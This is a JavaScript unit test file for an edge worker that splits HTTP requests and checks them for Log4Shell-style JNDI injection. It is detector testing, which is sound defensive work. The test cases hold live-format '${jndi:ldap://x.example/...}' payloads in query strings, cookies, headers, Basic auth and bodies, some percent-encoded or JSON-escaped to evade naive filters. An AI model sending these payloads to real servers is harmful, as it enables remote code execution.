// Unit tests of worker/src/parts.js, the pure request splitting the edge
// worker runs before inspection (no workerd needed: Web-standard objects only).
import test from 'node:test';
import assert from 'node:assert/strict';
import path from 'node:path';
import { ROOT, loadWasmInNode } from './lib/common.mjs';

const parts = await import(path.join(ROOT, 'worker/src/parts.js'));

test('requestUrl slices path and query exactly as URL parses them', () => {
  const urls = [
    'http://app.test/',
    'http://app.test/a/b?x=1&y=2',
    'https://user:p%40ss@app.test:8443//double//slash?q=%24%7Bjndi%7D',
    'http://app.test/trailing?',
    'http://app.test/p%7B%7D?a=${x}',
    'http://app.test/with#frag?x',
    'http://[::1]:8787/v6?z',
  ];
  for (const href of urls) {
    const u = new URL(href);
    const got = parts.requestUrl(u.href);
    assert.deepEqual(got, { href: u.href, pathname: u.pathname, search: u.search }, href);
  }
});

test('the container prefilter keeps exactly the parts inspectAll would keep', async () => {
  // headParts skips a query string or cookie header without `$`/`%` whole;
  // the parts it returns must be the ones every-part splitting would leave
  // after inspectAll's per-part test, and the verdict the same.
  const wasm = await loadWasmInNode();
  const codes = Object.fromEntries(parts.CONTEXTS.map((c) => [c, wasm.inspectContextCode(c)]));
  const cases = [
    ['http://app.test/plain?a=1&b=two', { cookie: 'a=1; b=2', 'user-agent': 'curl/8' }],
    ['http://app.test/q?a=%24%7Bjndi:ldap://x.example/a%7D', { cookie: 'a=1' }],
    ['http://app.test/c', { cookie: 'sid=abc; x=%24%7Bjndi:dns://x.example%7D' }],
    ['http://app.test/h', { 'x-api-version': '${jndi:ldap://x.example/a}' }],
    ['http://app.test/b', { authorization: `Basic ${btoa('${jndi:ldap://x.example/a}:pw')}` }],
    ['http://app.test/b2', { authorization: `Basic ${btoa('alice:secret')}` }],
  ];
  for (const [href, h] of cases) {
    const url = parts.requestUrl(href);
    const headers = new Headers(h);
    const all = parts.headParts('GET', url, headers, () => true);
    const kept = parts.headParts('GET', url, headers);
    const viaAll = parts.inspectAll(wasm, codes, all);
    const viaKept = parts.inspectAll(wasm, codes, kept);
    assert.deepEqual(viaKept, viaAll, href);
    // Every kept part is one of the unfiltered parts.
    const key = (p) => JSON.stringify(p);
    const allKeys = new Set(all.map(key));
    for (const p of kept) assert.ok(allKeys.has(key(p)), `${href}: ${key(p)}`);
  }
  // The clean case builds no part at all; the others each flag one.
  assert.deepEqual(parts.headParts('GET', parts.requestUrl(cases[0][0]), new Headers(cases[0][1])), []);
  const verdicts = cases.map(([href, h]) => parts.inspectAll(wasm, codes, parts.headParts('GET', parts.requestUrl(href), new Headers(h)))?.inspection.verdict ?? 'clean');
  assert.deepEqual(verdicts, ['clean', 'live', 'live', 'live', 'live', 'clean']);
});

test('bodies go into wasm as bytes: JSON, lossy text, strict sniffing, and the header wins a tie', async () => {
  const wasm = await loadWasmInNode();
  const codes = Object.fromEntries(parts.CONTEXTS.map((c) => [c, wasm.inspectContextCode(c)]));
  const enc = (s) => new TextEncoder().encode(s);
  const payload = '${jndi:ldap://x.example/a}';
  const body = async (kind, bytes, ct) => parts.inspectAll(wasm, codes, await parts.bodyParts(kind, bytes, true, ct));
  // A JSON string with the payload JSON-escaped (`\u0024` is `$`): only the
  // json-document decoding sees it.
  const json = await body('json', enc(JSON.stringify({ user: payload }).replace('$', '\\u0024')), 'application/json');
  assert.equal(json?.part, 'body(json)');
  assert.equal(json?.inspection.verdict, 'live');
  // text/plain with an invalid UTF-8 byte before the payload: replaced, as a
  // non-fatal TextDecoder does, and the payload is still seen.
  const lossy = Uint8Array.from([...enc('x '), 0xff, ...enc(` ${payload}`)]);
  assert.equal((await body('text', lossy, 'text/plain'))?.inspection.verdict, 'live');
  // No content type: inspected only when the bytes are UTF-8.
  assert.equal((await body('sniff', enc(payload), ''))?.inspection.verdict, 'live');
  assert.equal(await body('sniff', lossy, ''), null);
  // Same verdict in a header and in the body: the header, which comes first, is named.
  const head = parts.headParts('POST', parts.requestUrl('http://app.test/x'), new Headers({ 'x-api-version': payload }));
  const all = [...head, ...(await parts.bodyParts('text', enc(payload), true, 'text/plain'))];
  assert.equal(parts.inspectAll(wasm, codes, all)?.part, 'header:x-api-version');
});
